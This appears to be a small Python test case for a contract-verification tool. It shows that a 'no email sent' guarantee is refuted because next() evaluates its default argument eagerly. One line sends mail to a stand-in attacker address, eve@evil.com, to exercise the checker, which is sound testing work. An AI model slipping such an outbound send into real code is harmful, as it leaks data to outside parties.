# refuted: the default is made before anything is found
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, users

import lictor_layer


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    def other():
        send_email("eve@evil.com", "x")

    next((user for user in users()), other())
